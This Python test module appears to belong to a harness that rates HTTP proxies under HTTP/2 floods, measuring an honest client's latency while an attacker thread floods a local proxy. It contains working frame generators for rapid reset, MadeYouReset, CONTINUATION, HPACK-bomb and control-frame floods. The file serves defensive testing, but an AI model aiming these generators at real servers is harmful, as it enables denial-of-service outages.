"""Rows about HTTP/2 floods: what becomes of the attacker, and of an honest client meanwhile."""

import math
import os
import pathlib
import select
import statistics
import struct
import subprocess
import tempfile
import threading

import cores
from board import GOOD, HARM, OTHER, Row, Seen
from frames import CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST, SETTINGS, WINDOW, Frames, block, frame, headers, literal

# The honest client asks so often a second over each of so many connections of HTTP/1.1, for so many
# seconds. Its 99th percentile is taken in windows of so long, and most of them count.
RATE, CLIENTS, SECONDS, WINDOW_SECONDS = 250, 4, 1.0, 0.2
# Three processes take turns on the proxy's core, in slices of 4 ms: on a machine of two cores a tail
# of a few slices says nothing. Calm it is 1 to 6 ms, under most floods 2 to 5, under the worst that a
# proxy bears well 10 to 15; where others really wait, 30 and more.
P99_FLOOR_MS = 20.0
ASKED = int(RATE * SECONDS) * CLIENTS
# So many small frames are longer than any budget that a proxy gives them.
MANY = 60_000
# Prints what was measured, for whoever looks for the floor of another machine.
TELLS = "WIRE_TELLS" in os.environ


class Honest(threading.Thread):
    """h2load in its own process, at a fixed rate."""

    def __init__(self, port):
        super().__init__(daemon=True)
        self.port, self.windows = port, {}
        self.failed = ASKED  # until it is known better
        self.start()

    def run(self):
        cores.pin_me()
        with tempfile.TemporaryDirectory() as directory:
            log = pathlib.Path(directory) / "log"
            command = ["h2load", "--h1", "-n", str(ASKED), "-c", str(CLIENTS), "--rps", str(RATE), f"--log-file={log}"]
            subprocess.run([*command, f"http://127.0.0.1:{self.port}/one"], capture_output=True, timeout=20, check=False)
            rows = [line.split("\t") for line in log.read_text().splitlines()] if log.exists() else []
        good = [(int(begun) / 1e6, int(took) / 1000) for begun, status, took in rows if status == "200"]
        self.failed = ASKED - len(good)
        for begun, took in good:
            self.windows.setdefault(int(begun / WINDOW_SECONDS), []).append(took)

    def p99(self, window):
        """Infinite where a stall let nothing begin."""
        times = sorted(self.windows.get(window, ()))
        return times[int(len(times) * 0.99)] if times else math.inf

    def span(self):
        return range(min(self.windows, default=0), max(self.windows, default=0) + 1)

    def usual(self):
        return statistics.median(map(self.p99, self.span()))


def is_worse(during, calm, direct):
    """Whether most windows were worse than twice the calm, twice what a client of the backend itself
    saw in the same window, and the floor."""
    over = 0
    for window in during.span():
        # A window in which nobody could ask was the machine's; behind the other's end, the proxy's.
        beside = 2 * direct.p99(window) if window in direct.span() else 0
        over += during.p99(window) > max(2 * calm.usual(), beside, P99_FLOOR_MS)
    return 2 * over > len(during.span())


def attack(port, send, reads, asks):
    """Floods one connection until it is ended or `send` is; whether it was ended. Whether it is
    still served it `asks` with a PING, where one may stand."""
    attacker = Frames(port, within=1.0)
    try:
        for data in send():
            if not attacker.push(data):
                break
            while reads and select.select([attacker.sock], [], [], 0)[0] and attacker.fill(0):
                pass
            if not attacker.is_alive():
                break
        if asks:
            attacker.push(frame(PING, 0, 0, b"farewell"))
        attacker.until(lambda: attacker.pong == b"farewell" or not attacker.is_alive(), 1.0)
        return not attacker.is_alive()
    finally:
        attacker.close()


class Attacker(threading.Thread):
    """Floods connection after connection for as long as the honest client asks, and gives way to it
    on the core that they share: its own hunger for the processor is none of the proxy's."""

    def __init__(self, honest, *how):
        super().__init__(daemon=True)
        self.honest, self.how = honest, how
        self.ended = []  # whether the first one was, and so on
        self.start()

    def run(self):
        cores.pin_me(nice=10)
        while not self.ended or self.honest.is_alive():
            self.ended.append(attack(*self.how))


def flood(name, promise, send, ends, reads=True, asks=True):
    """`send` yields bytes until the server has had enough. `ends`: whether the attacker must be
    ended, or may be served to its end where nothing grows by it."""

    def once(peer):
        # What the machine does to a client that asks the backend itself is none of the proxy's.
        during, direct = Honest(peer.port), Honest(peer.upstream)
        attacker = Attacker(during, peer.h2_port, send, reads, asks)
        for thread in (during, direct, attacker):
            thread.join(25)
        if TELLS:
            usual = [f"{what} {honest.usual():.1f}" for what, honest in (("calm", peer.calm), ("flooded", during), ("direct", direct))]
            print(f"{peer.name}: {name}: {', '.join(usual)} ms; {during.failed} lost; {sum(attacker.ended)} of {len(attacker.ended)} ended", flush=True)
        return is_worse(during, peer.calm, direct), during.failed, bool(attacker.ended) and all(attacker.ended)

    def act(peer):
        if not hasattr(peer, "calm"):
            peer.calm = Honest(peer.port)
            peer.calm.join(25)
        worse, lost, ended = once(peer)
        if worse:
            # Two more, and two of three count: the machine may have paused.
            worse = any(once(peer)[0] for _ in range(2))
        hurt = worse or lost or peer.calm.failed
        text = "ended" if ended else "borne to its end"
        text += "; the honest client suffers" if hurt else "; the honest client unharmed"
        return Seen(HARM if hurt else GOOD if ended or not ends else OTHER, text)

    return Row(name, promise, act)


def many(one):
    """`one` gives the frame of a number."""

    def send():
        for start in range(0, MANY, 100):
            yield b"".join(one(number) for number in range(start, start + 100))

    return send


def rapid_reset():
    for number in range(100):
        pairs = []
        for at in range(50):
            stream = 1 + 2 * (number * 50 + at)
            pairs.append(headers(stream, block(path="/middle")) + frame(RST, 0, stream, b"\0\0\0\x08"))
        yield b"".join(pairs)


def made_you_reset():
    """Makes the server reset each stream: a window update of 0."""
    for number in range(100):
        pairs = []
        for at in range(50):
            stream = 1 + 2 * (number * 50 + at)
            pairs.append(headers(stream, block(path="/middle")) + frame(WINDOW, 0, stream, b"\0\0\0\0"))
        yield b"".join(pairs)


def continuation():
    yield frame(HEADERS, END_STREAM, 1, block())
    for _ in range(2000):
        yield frame(CONTINUATION, 0, 1, literal("x-a", "a" * 1000) * 10)


def empty_continuation():
    yield frame(HEADERS, END_STREAM, 1, block())
    for _ in range(200):
        yield frame(CONTINUATION, 0, 1) * 100


def hpack_bomb():
    """One large field in the table, named many times."""
    big = b"\x40" + literal("x-bomb", "b" * 3900)[1:]
    for stream in range(1, 201, 2):
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, (block() + big if stream == 1 else block()) + b"\xbe" * 8000)


def empty_data():
    yield headers(1, block(method="POST", path="/took"), end=False)
    yield from many(lambda _: frame(DATA, 0, 1))()


def priorities():
    yield headers(1, end=False)
    yield from many(lambda number: frame(PRIORITY, 0, 3 + 2 * (number % 1000), b"\0\0\0\0\x10"))()


def shut_windows():
    """A hundred responses and no window for any."""
    yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
    for stream in range(1, 201, 2):
        yield headers(stream, block(path="/middle"))


def streams_beyond():
    """More streams than the server allows, none of them ended."""
    for number in range(40):
        yield b"".join(headers(1 + 2 * (number * 50 + at), block(method="POST", path="/took"), end=False) for at in range(50))


PINGS = many(lambda number: frame(PING, 0, 0, struct.pack(">Q", number)))
SETTINGS_AGAIN = many(lambda _: frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)))
WINDOWS = many(lambda _: frame(WINDOW, 0, 0, b"\0\0\0\1"))
UNKNOWN = many(lambda _: frame(0x42, 0, 0, b"12345678"))
EMPTY_HEADERS = many(lambda number: frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * number))

ROWS = [
    flood("rapid reset (CVE-2023-44487), 5,000 streams", "ended", rapid_reset, True),
    flood("made to reset (CVE-2025-8671), 5,000 streams", "ended", made_you_reset, True),
    flood("CONTINUATION, 20 MB", "ended", continuation, True, asks=False),
    flood("empty CONTINUATION, 20,000", "ended", empty_continuation, True, asks=False),
    flood("HPACK: one field of 4 KB named 8,000 times a request", "ended, or each refused", hpack_bomb, False),
    flood("empty HEADERS, 60,000", "ended", EMPTY_HEADERS, True),
    flood("empty DATA, 60,000", "ended", empty_data, True),
    flood("PING, 60,000", "ended", PINGS, True),
    flood("PING, 60,000, the answers unread", "ended", PINGS, True, reads=False),
    flood("SETTINGS, 60,000", "ended", SETTINGS_AGAIN, True),
    flood("SETTINGS, 60,000, the answers unread", "ended", SETTINGS_AGAIN, True, reads=False),
    flood("PRIORITY, 60,000", "ended", priorities, True),
    flood("WINDOW_UPDATE, 60,000", "ended", WINDOWS, True),
    flood("frames of an unknown type, 60,000", "ended", UNKNOWN, True),
    flood("100 responses of 64 KiB and no window", "ended, or borne", shut_windows, False, asks=False),
    flood("2,000 streams at once", "ended, or refused one by one", streams_beyond, False, asks=False),
]
